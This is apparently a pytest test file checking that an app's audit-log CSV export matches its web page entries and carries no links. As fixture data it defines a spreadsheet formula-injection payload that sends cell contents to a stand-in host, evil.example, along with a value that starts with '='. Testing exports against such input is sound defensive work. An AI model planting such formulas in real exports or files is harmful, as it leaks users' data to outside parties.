"""The audit log's CSV reads plain columns and names without links: its rows are
the rows of the page's entries (objects, names with links), cell for cell, for
every kind of event, on both databases; and at a batch's edge each event once."""

import json

import pytest

from codes import access, audit, csvfile
from codes.auditlog import operations
from codes.extensions import db
from codes.models import Code
from conftest import Factory

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def every_kind_of_event(make):
    org = make.org(name="Oak School", timezone="America/New_York")
    room = make.classroom(org, 'Room "9A", east')
    other_room = make.classroom(org, HYPERLINK)
    course = make.course(org, "Algebra, grade 9")
    code = make.code(org, "OAK-9A-2027", classrooms=[room])
    gone = make.code(org, "GONE-2027", classrooms=[room])
    lee = make.user("Lee, the Leader", "lee@oak.example")
    make.join(org, lee)
    stranger = make.user("Otto Outside", "otto@elsewhere.example")
    admin = org.admin
    audit.record(admin, "classroom.leader.add", room, user_id=lee.id)
    audit.record(
        admin, "classroom.move", lee, org_id=org.id, from_classroom_id=room.id, to_classroom_id=other_room.id
    )
    audit.record(admin, "classroom.courses", room, course_ids=[course.id, 999999])
    audit.record(admin, "member.add", lee, org_id=org.id, student_id=stranger.id, was=None, on=True)
    audit.record(admin, "classroom.join_code", room, join_code_of=room.id, old="A-1", new="=B-2")
    audit.record(lee, "redeem.unknown", None, org_id=org.id, key="NOSUCHCODE")
    audit.record(None, "redeem.ok", code, org_id=org.id)
    audit.record(lee, "redeem.used", gone, org_id=org.id, text="GONE-2027")
    audit.record(admin, "code.update", code, name=HYPERLINK, count=3, flag=False)
    audit.record(admin, "weird.action", course, user_id="not an id", course_ids=[])
    db.session.commit()
    db.session.delete(db.session.get(Code, gone.id))
    db.session.commit()
    return org


def csv_text(rows, org):
    return "".join(csvfile.chunks(operations.csv_header(org), (operations.csv_row(e) for e in rows)))


def test_export_rows_are_the_page_entries_rows_on_both_databases(any_db_app):
    org = every_kind_of_event(Factory())
    scope = access.Scope(org.admin, org)
    flt = operations.AuditFilter()
    shown = operations.page(scope, flt, 1)
    assert 15 < shown.total < operations.PAGE_SIZE, "every event on one page"
    exported = list(operations.entries(scope, flt))
    assert csv_text(exported, org) == csv_text(shown.rows, org)
    parts = {(p.label, p.text) for e in exported for p in e.parts}
    assert ("Student", operations.OUTSIDE) in parts and ("Courses", "A deleted course") in parts
    assert all(not p.url for e in exported for p in e.parts), "the export reads no links"
    for entry in exported:
        event = entry.event
        raw = {event.object_type.lower(): event.object_id} if event.object_type else {}
        raw.update(entry.detail)
        assert entry.ids == (json.dumps(raw, sort_keys=True) if raw else ""), "as json.dumps writes it"


@pytest.mark.parametrize("extra", [0, 1])
def test_events_at_a_batch_edge_come_once_each_on_both_databases(any_db_app, monkeypatch, extra):
    org = every_kind_of_event(Factory())
    scope = access.Scope(org.admin, org)
    total = operations.page(scope, operations.AuditFilter(), 1).total
    monkeypatch.setattr(operations, "EXPORT_BATCH", total - extra)
    exported = list(operations.entries(scope, operations.AuditFilter()))
    shown = operations.page(scope, operations.AuditFilter(), 1).rows
    assert csv_text(exported, org) == csv_text(shown, org)
